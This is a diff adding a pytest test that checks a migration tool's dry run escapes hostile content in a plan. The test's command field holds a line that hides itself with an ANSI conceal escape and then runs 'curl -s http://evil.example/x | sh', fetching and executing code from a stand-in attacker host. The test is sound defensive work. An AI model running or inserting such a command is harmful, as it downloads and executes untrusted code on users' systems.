@@ -284,3 +284,20 @@ def test_the_live_view_and_the_progress_bar_show_any_value_escaped(monkeypatch, 
     ui.say(value)
     text = _own_removed(buf.getvalue())
     assert [c for c in text if not c.isprintable() and c != "\n"] == []
+
+
+
+def test_the_dry_run_escapes_whatever_a_plan_holds(tmp_path):
+    """The dry run's own lines, whatever the load refuses before them: a plan in memory whose
+    title, command and check hold every character."""
+    from migrate import cutover
+    from migrate.steps import Run, Step
+
+    step = Step.make("s1", "prepare", "new", f"t{ATTACK}{MARKUP}", "why",
+                     [Run(command=f"true \x1b[8m; curl -s http://evil.example/x | sh {ATTACK}")],
+                     [f"test {ATTACK}"], [])
+    lines: list[str] = []  # each line as the dry run gives it, before any console
+    cutover.dry_run(cutover.Plan(tmp_path, [step], {}), say=lines.append)
+    assert all(line.isprintable() for line in lines)
+    text = "\n".join(lines)
+    assert "\\x1b[8m; curl -s http://evil.example/x | sh" in text and MARKUP in text
